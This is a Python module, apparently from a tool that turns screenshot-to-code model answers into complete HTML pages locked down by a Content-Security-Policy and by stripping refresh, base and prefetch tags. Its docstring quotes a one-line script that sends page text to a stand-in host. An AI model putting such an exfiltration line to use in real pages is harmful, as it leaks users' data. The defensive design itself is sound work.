"""A complete, network-blocked HTML document from a screenshot->code answer.

``extract_html`` takes the page out of the answer (the largest HTML fence, else
the raw text; prose around it ignored), completes a page cut off at
``max_new_tokens`` mid-tag, and applies ``add_csp``, which puts ``CSP`` first
in ``<head>`` and removes what a meta policy cannot stop.  It never raises on
model text: an answer without HTML comes back escaped in a ``<pre>``.

It deliberately does not sanitise HTML beyond what is needed to keep the CSP in
force (no DOM parser, no script stripping - the CSP blocks execution).

Content-Security-Policy choice (``CSP``), delivered as a ``<meta>`` because a
sidecar file opened from disk has no HTTP headers:

* ``default-src 'none'``  - the fallback for everything not named below:
  fetch/XHR/WebSocket/beacon (connect-src), frames, media, objects, workers,
  manifests.  Nothing may be loaded from the network or from disk.
* ``img-src data:``       - embedded images still render; ``https:`` images
  (which models do write) are blocked, so opening a page makes no request.
* ``style-src 'unsafe-inline'`` - generated pages are styled with ``<style>``
  blocks and ``style=""`` attributes; inline CSS cannot reach the network
  because every fetch it could cause (``url()``, ``@import``, fonts) is governed
  by img-src/font-src/style-src which allow no host.
* ``font-src data:``      - embedded fonts only.
* ``script-src 'none'``   - no JavaScript at all, including inline handlers and
  ``javascript:`` URLs.  Allowing inline script was considered and rejected:
  even with connect-src blocked, a script can exfiltrate by navigating
  (``location = "https://x/?" + document.body.innerText``), ``window.open`` or
  build self-submitting links, and CSP has no shipped directive that stops
  navigation.  A screenshot->code page is for looking at layout; it renders
  without script.  This is redundant with default-src but states the intent.
* ``base-uri 'none'``     - a ``<base>`` cannot re-point relative URLs.
* ``form-action 'none'``  - a form submission is a navigation that carries data.

``frame-ancestors``, ``sandbox`` and ``report-uri`` are ignored in a ``<meta>``
policy, so they are not listed.  Because a meta policy only governs what the
parser sees after it, ``add_csp`` puts it first in ``<head>``, and because CSP
cannot stop ``<meta http-equiv="refresh">`` navigation or DNS prefetching,
``add_csp`` also removes refresh metas and resource-hint ``<link>``s and turns
DNS prefetch off.  Accepted residual risk: a person clicking a link the model
wrote navigates to it.
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass

from daemon.answers.fences import _normalise, _scan_fences

CSP = (
    "default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:; "
    "script-src 'none'; base-uri 'none'; form-action 'none'"
)


@dataclass(frozen=True)
class Html:
    document: str  # always a complete HTML document; CSP applied unless extract_html(csp=None)
    found_html: bool  # False: the answer had no HTML; document shows it escaped in <pre>
    truncated: bool  # the answer looked cut off (unclosed fence / no </html>)
    warnings: tuple[str, ...]


# A tag whose quoted attribute values may contain '>', or failing that anything up
# to the next '>' (what a browser does with an unbalanced quote is not our concern:
# removing too much is safe, keeping a <base> is not).
_ATTRS = r"""(?:[^>"']|"[^"]*"|'[^']*')*"""


def _tag(name: str) -> re.Pattern[str]:
    # A browser ends a tag name only at whitespace, '/' or '>': "<head</html>" is
    # an element named "head<", not a head.
    start = rf"<{name}(?=[\s/>])"
    return re.compile(rf"{start}{_ATTRS}>|{start}[^>]*>", re.IGNORECASE)


_HTML_OPEN = _tag("html")
_HEAD_OPEN = _tag("head")
_BODY_OPEN = _tag("body")
_HEAD_CLOSE = re.compile(r"</head\s*>", re.IGNORECASE)
_BODY_CLOSE = re.compile(r"</body\s*>", re.IGNORECASE)
_HTML_CLOSE = re.compile(r"</html\s*>", re.IGNORECASE)
_DOCTYPE = re.compile(r"<!doctype\b[^>]*>", re.IGNORECASE)
_DOC_START = re.compile(r"<!doctype\s+html|<html\b", re.IGNORECASE)
_CHARSET = re.compile(r"<meta\b[^>]*charset", re.IGNORECASE)
_LEADING_WS_COMMENTS = re.compile(r"(?:\s|<!--.*?-->)*", re.DOTALL)
_HTML_LANGS = frozenset({"html", "htm", "xhtml"})
# Elements that mark an unfenced answer as an HTML fragment.
_FRAGMENT_TAG = re.compile(
    r"<(?:div|p|table|tr|td|span|h[1-6]|ul|ol|li|section|header|footer|main|nav|form|"
    r"body|head|style|article|aside|button|input|label|img|a|br|hr|pre|code)\b[^<>]*>",
    re.IGNORECASE,
)
_RAW_TEXT_TAGS = ("script", "style", "textarea", "title")


def extract_html(text: str, *, title: str = "vlwatch", csp: str | None = CSP) -> Html:
    """A complete HTML document from a screenshot->code answer.

    The document comes with ``add_csp(document, csp)`` applied, so forgetting
    the call cannot produce an open page; ``csp=None`` is the explicit opt-out
    (the document is then left exactly as completed).
    """
    try:
        result = _extract_html(text, title)
    except Exception as exc:  # a bug here must not kill the daemon's worker
        document = _pre_document(_normalise(text).strip(), title)
        result = Html(document, False, False, (f"internal error while extracting HTML: {exc!r}",))
    if csp is None:
        return result
    return Html(add_csp(result.document, csp), result.found_html, result.truncated, result.warnings)


def _extract_html(text: str, title: str) -> Html:
    s = _normalise(text)
    if not s.strip():
        return Html(_pre_document("", title), False, False, ("empty answer",))
    notes: list[str] = []
    candidate, truncated = _html_candidate(s, notes)
    if candidate is None or not candidate.strip():
        notes.append("no HTML in answer; document shows the answer as text")
        return Html(_pre_document(s.strip(), title), False, False, tuple(notes))
    if _DOC_START.search(candidate) and not _HTML_CLOSE.search(candidate):
        truncated = True
    if truncated:
        notes.append("answer looks truncated; closed the open elements")
    return Html(_complete_document(candidate, title), True, truncated, tuple(notes))


def _html_candidate(s: str, notes: list[str]) -> tuple[str | None, bool]:
    """(html text, fence left open) from the fences, else from the raw answer."""
    fences = _scan_fences(s)
    chosen = [f for f in fences if f.lang in _HTML_LANGS]
    if not chosen:  # ``` or ```xml around a whole page
        chosen = [f for f in fences if _DOC_START.search(f.body)]
    if chosen:
        # Prefer the block with the page in it over a snippet shown afterwards.
        whole = [f for f in chosen if _DOC_START.search(f.body)]
        best = max(whole or chosen, key=lambda f: len(f.body))
        if len(chosen) > 1:
            notes.append(f"answer had {len(chosen)} HTML blocks; used the largest page")
        body, closed = best.body, best.closed
        if not closed and body.rstrip().endswith("```"):
            body, closed = body.rstrip()[:-3], True  # "</html>```" on one line
        return body, not closed
    start = _DOC_START.search(s)
    if start is not None:
        ends = list(_HTML_CLOSE.finditer(s, start.start()))
        if ends:
            return s[start.start() : ends[-1].end()], False
        return s[start.start() :].rstrip().removesuffix("```"), False
    stripped = s.strip()
    if stripped.startswith("<") and _FRAGMENT_TAG.search(stripped):
        return stripped, False
    return None, False


def _complete_document(candidate: str, title: str) -> str:
    c = _close_open_ends(candidate.strip())
    start = _DOC_START.search(c)
    if start is not None:
        c = c[start.start() :]  # stray text or comments before the page
    ends = list(_HTML_CLOSE.finditer(c))
    if ends:
        c = c[: ends[-1].end()]  # text after </html>
    doctype = _DOCTYPE.match(c)
    if doctype is not None:
        c = c[doctype.end() :].strip()  # replaced by the standard one below
    html_tag = _HTML_OPEN.search(c)
    if html_tag is None:
        c = f"<html>\n{c}\n</html>"
    else:
        # Text before <html> makes the browser open an implied head and body,
        # which would push our CSP meta into the body, where it is ignored.
        c = c[html_tag.start() :]
        if not _HTML_CLOSE.search(c):
            c = f"{c}\n</html>"
    c = _ensure_head(c, title)
    c = _ensure_body(c)
    return f"<!DOCTYPE html>\n{c}\n"


def _close_open_ends(c: str) -> str:
    """Repair the end of a cut-off page so the closing tags added later count.

    A page cut inside a tag (``<img src="path_to_image_5``), a comment or a
    ``<style>`` block would swallow ``</body></html>`` as attribute, comment or
    CSS text.  Harmless on a complete page.
    """
    while c.rfind("<") > c.rfind(">"):  # "<head<ba": cut tags may stack
        c = c[: c.rfind("<")].rstrip()
    if c.rfind("<!--") > c.rfind("-->"):
        c += " -->"
    lower = c.lower()
    open_at = {}
    for name in _RAW_TEXT_TAGS:
        opened = max(lower.rfind(f"<{name}>"), lower.rfind(f"<{name} "))
        if opened > lower.rfind(f"</{name}"):
            open_at[name] = opened
    if open_at:
        # Raw-text elements do not nest: only the last one opened is really open.
        c += f"\n</{max(open_at, key=open_at.__getitem__)}>"
    return c


def _ensure_head(c: str, title: str) -> str:
    html_tag = _HTML_OPEN.search(c)
    assert html_tag is not None  # _complete_document guarantees it
    head = _HEAD_OPEN.search(c, html_tag.end())
    if head is None:
        block = f'\n<head>\n<meta charset="utf-8">\n<title>{html.escape(title)}</title>\n</head>'
        return c[: html_tag.end()] + block + c[html_tag.end() :]
    if not _CHARSET.search(c):
        # Models write Chinese; without a charset a file:// page is decoded by guesswork.
        c = c[: head.end()] + '\n<meta charset="utf-8">' + c[head.end() :]
    if not _HEAD_CLOSE.search(c):
        body = _BODY_OPEN.search(c)
        at = body.start() if body else _last(_HTML_CLOSE, c).start()
        c = c[:at] + "</head>\n" + c[at:]
    return c


def _ensure_body(c: str) -> str:
    if _BODY_OPEN.search(c) is None:
        head_close = _HEAD_CLOSE.search(c)
        assert head_close is not None  # _ensure_head guarantees it
        c = c[: head_close.end()] + "\n<body>" + c[head_close.end() :]
    if not _BODY_CLOSE.search(c):
        at = _last(_HTML_CLOSE, c).start()
        c = c[:at].rstrip() + "\n</body>\n" + c[at:]
    return c


def _last(pattern: re.Pattern[str], c: str) -> re.Match[str]:
    matches = list(pattern.finditer(c))
    assert matches  # callers only ask for tags already ensured
    return matches[-1]


def _pre_document(answer: str, title: str) -> str:
    return (
        "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n"
        f"<title>{html.escape(title)}</title>\n</head>\n<body>\n"
        f'<pre style="white-space: pre-wrap">{html.escape(answer)}</pre>\n</body>\n</html>\n'
    )


# ---------------------------------------------------------------------------
# CSP
# ---------------------------------------------------------------------------


def _tag_line(name: str) -> re.Pattern[str]:
    """A tag, with its indentation and newline when it is alone on its line."""
    tag = _tag(name).pattern
    return re.compile(rf"(?P<lead>^[ \t]*)?(?P<tag>{tag})(?P<trail>[ \t]*\n)?", re.IGNORECASE | re.MULTILINE)


_META_LINE = _tag_line("meta")
_BASE_LINE = _tag_line("base")
_LINK_LINE = _tag_line("link")
_HTTP_EQUIV = re.compile(r"""http-equiv\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.IGNORECASE)
_REL = re.compile(r"""\brel\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.IGNORECASE)
# Metas the model must not keep: its own policy (could loosen ours by being the one
# a reader trusts, or break rendering), a refresh (navigation CSP cannot block),
# and prefetch control (we set it ourselves).
_DROP_EQUIV = frozenset(
    {
        "content-security-policy",
        "content-security-policy-report-only",
        "refresh",
        "x-dns-prefetch-control",
    }
)
# Resource hints: DNS prefetch and preconnect are not reliably governed by CSP.
_DROP_REL = frozenset({"dns-prefetch", "preconnect", "prefetch", "prerender", "preload", "modulepreload"})
_KEPT_HTML_ATTR = re.compile(r"""(?<![\w:-])(?:lang|dir)\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+)""", re.IGNORECASE)
_DNS_OFF = '<meta http-equiv="x-dns-prefetch-control" content="off">'


def add_csp(document: str, policy: str = CSP) -> str:
    """Put ``policy`` first in <head>; drop the model's CSP metas, refresh, <base>.

    Idempotent: the block a previous call inserted is removed exactly before
    anything else, and stripping runs to a fixpoint (so ``<ba<base>se>`` cannot
    leave a new ``<base>`` behind).
    """
    content = html.escape(policy, quote=False).replace('"', "&quot;")
    block = f'\n<meta http-equiv="Content-Security-Policy" content="{content}">\n{_DNS_OFF}'
    doc = _plain_start_tags(_strip_unsafe(document.replace(block, "")))
    head = _usable_head(doc)
    if head is not None:
        return doc[:head] + block + doc[head:]
    html_tag = _HTML_OPEN.search(doc)
    if html_tag is not None:
        at = html_tag.end()
    else:
        doctype = _DOCTYPE.match(doc)
        at = doctype.end() if doctype else 0
    return doc[:at] + "\n<head>" + block + "\n</head>" + doc[at:]


def _usable_head(doc: str) -> int | None:
    """End of the <head> start tag when the head is the first thing in <html>.

    When anything but whitespace and comments comes before it, the parser has
    already opened an implied head there, so the policy must go earlier.
    """
    html_tag = _HTML_OPEN.search(doc)
    head = _HEAD_OPEN.search(doc, html_tag.end() if html_tag else 0)
    if head is None:
        return None
    if html_tag is None:
        return head.end()
    between = doc[html_tag.end() : head.start()]
    if _LEADING_WS_COMMENTS.fullmatch(between) is None:
        return None
    return head.end()


def _plain_start_tags(doc: str) -> str:
    """<html> keeps only lang/dir, <head> keeps nothing.

    Both tags are parsed before the policy exists, so an attribute on them (a
    ``style`` with ``url(https://...)``) would be outside it.
    """
    doc = _HTML_OPEN.sub(_plain_html_tag, doc)
    return _HEAD_OPEN.sub("<head>", doc)


def _plain_html_tag(m: re.Match[str]) -> str:
    kept = [a.group() for a in _KEPT_HTML_ATTR.finditer(m.group())]
    return f"<html {' '.join(kept)}>" if kept else "<html>"


def _strip_unsafe(doc: str) -> str:
    while True:
        stripped = _META_LINE.sub(_drop_meta, doc)
        stripped = _LINK_LINE.sub(_drop_link, stripped)
        stripped = _BASE_LINE.sub(lambda m: _drop(m, True), stripped)
        if stripped == doc:
            return doc
        doc = stripped


def _drop_meta(m: re.Match[str]) -> str:
    values = _attr_values(_HTTP_EQUIV, m.group("tag"))
    return _drop(m, any(v.strip() in _DROP_EQUIV for v in values))


def _drop_link(m: re.Match[str]) -> str:
    values = _attr_values(_REL, m.group("tag"))
    return _drop(m, any(_DROP_REL & set(v.split()) for v in values))


def _drop(m: re.Match[str], drop: bool) -> str:
    """Remove the tag; with its line when it stood alone on it."""
    if not drop:
        return m.group()
    if m.group("lead") is not None and m.group("trail") is not None:
        return ""
    return (m.group("lead") or "") + (m.group("trail") or "")


def _attr_values(pattern: re.Pattern[str], tag: str) -> list[str]:
    """Every value the attribute could have, as the browser decodes it.

    All occurrences count (``name="http-equiv=x" http-equiv="refresh"`` must not
    hide the second), and character references are decoded because the browser
    decodes them: ``http-equiv="&#114;efresh"`` is a refresh.
    """
    return [
        html.unescape(next(g for g in m.groups() if g is not None)).lower()
        for m in pattern.finditer(tag)
    ]
